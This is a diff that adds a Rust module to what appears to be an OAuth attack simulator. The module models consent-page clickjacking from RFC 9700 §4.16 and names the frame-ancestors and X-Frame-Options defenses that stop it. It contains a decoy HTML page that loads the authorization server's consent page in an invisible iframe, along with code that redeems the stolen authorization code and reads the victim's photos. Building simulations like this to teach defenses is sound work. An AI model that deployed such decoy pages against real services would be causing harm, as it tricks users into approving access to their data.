@@ -1,0 +1,128 @@
+//! `consent-clickjacking`: the attacker's page frames the AS's consent page for its own
+//! client and lays a decoy over the "Allow" button; Alice, already signed in at the AS,
+//! clicks the decoy and approves Photo Frame without ever seeing the consent screen
+//! (RFC 9700 §4.16). The AS's `frame-ancestors 'none'` and `X-Frame-Options: DENY` make
+//! the browser refuse to show the page in the frame, so there is nothing to click.
+
+use crate::actors::Defenses;
+use crate::actors::defenses::DefenseId;
+use crate::actors::well_known as wk;
+use crate::attacks::attacker::{Attacker, Kit, Moves, Playbook};
+use crate::attacks::setup::*;
+use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
+use crate::protocol::html::escape;
+use crate::protocol::http_wire::{Request, Response, url_string};
+use crate::protocol::token_response::TokenResponse;
+use crate::sim::Simulation;
+use crate::sim::world::{WorldBuilder, alice_signs_in};
+
+pub struct ConsentClickjacking;
+
+/// The page at attacker.example with the framed consent page under a decoy.
+const PRIZE_PATH: &str = "/prize";
+
+static INFO: AttackInfo = AttackInfo {
+    id: "consent-clickjacking",
+    title: "Clickjacking: Alice's click on a decoy approves the attacker's app",
+    story: "Alice has signed in to Photo Printer with as.example, so her browser has a session there. Later she \
+            opens a prize page on attacker.example. It shows a \"Claim your prize\" button — and, invisible \
+            under it, a frame with as.example's consent page for Photo Frame, Mallory's app. Alice clicks the \
+            button; the click lands on \"Allow\". The AS sees a consent from Alice's own session, and Photo \
+            Frame gets a code for her photos.",
+    capabilities: &[Capability::WebAttacker],
+    setup: "The attacker's client photo-frame is registered at the AS; Alice has signed in at the AS before.",
+    steps: &[
+        "Serve a prize page that frames as.example/authorize for photo-frame under a decoy button",
+        "Receive the code at attacker.example/cb and redeem it as photo-frame",
+        "Read Alice's photos with the access token",
+    ],
+    goal: "the attacker reads Alice's photos through an approval she never saw",
+    stoppers: &[Stopper {
+        defense: DefenseId::FrameProtection,
+        why: "the consent page says frame-ancestors 'none' and X-Frame-Options: DENY, so the browser shows it in no other site's frame (RFC 9700 §4.16)",
+        needs: &[],
+        with_rest_of_bcp: false,
+        fails_the_flow: false,
+    }],
+    references: "RFC 9700 §4.16; RFC 6819 §4.4.1.9",
+};
+
+/// Photo Frame's server: redeems the code its callback receives, then reads the photos.
+struct Collect;
+
+impl Playbook for Collect {
+    fn on_request(
+        &mut self,
+        kit: &mut Kit,
+        ctx: &mut Moves<'_, '_>,
+        req: &Request,
+    ) -> Option<Response> {
+        if req.uri().path() == "/cb"
+            && let Some(code) = query(&url_string(req.uri())).first("code")
+        {
+            ctx.note("Photo Frame: a code arrived at its callback; redeeming it.");
+            kit.request_tokens(ctx, &token_endpoint(), &frame_redemption(code));
+        }
+        None
+    }
+
+    fn on_tokens(
+        &mut self,
+        kit: &mut Kit,
+        ctx: &mut Moves<'_, '_>,
+        tokens: Option<&TokenResponse>,
+    ) {
+        kit.fetch_photos(ctx, tokens);
+    }
+}
+
+/// The prize page: the framed consent request for Photo Frame and the decoy over it.
+fn prize_page() -> String {
+    format!(
+        "<h1>You have won!</h1>\n<iframe src=\"{}\" style=\"opacity:0\"></iframe>\n<button id=\"decoy\">Claim your prize</button>",
+        escape(&frame_authorization_url("photos.read", "frame-state-cj"))
+    )
+}
+
+impl Attack for ConsentClickjacking {
+    fn info(&self) -> &'static AttackInfo {
+        &INFO
+    }
+
+    fn build_world(&self, seed: u64, defenses: Defenses) -> Simulation {
+        let mut w = WorldBuilder::standard(seed, defenses);
+        w.auth_server.clients.push(attacker_client());
+        let mut sim = w.build();
+        sim.add_actor(Box::new(
+            Attacker::new(
+                ATTACKER,
+                "Attacker (Photo Frame at attacker.example)",
+                &[ATTACKER_ORIGIN],
+                Collect,
+            )
+            .with_page(PRIZE_PATH, "You have won!", &prize_page())
+            .with_page(
+                "/cb",
+                "Photo Frame",
+                "<h1>Photo Frame</h1><p>Connected.</p>",
+            ),
+        ));
+        sim.push_script(alice_signs_in());
+        sim.push_script(navigate(
+            wk::BROWSER,
+            &format!("{ATTACKER_ORIGIN}{PRIZE_PATH}"),
+            "Later, Alice opens a prize page on attacker.example and clicks \"Claim your prize\".",
+        ));
+        sim
+    }
+
+    fn goal(&self, sim: &Simulation) -> Option<String> {
+        let loot = sim.actor::<Attacker>(ATTACKER)?.loot();
+        loot.has_photos_of(wk::ALICE).then(|| {
+            "Photo Frame reads Alice's photos: her click on a decoy approved it on a consent screen she never saw"
+                .to_string()
+        })
+    }
+}
+
+pub static ATTACK: ConsentClickjacking = ConsentClickjacking;
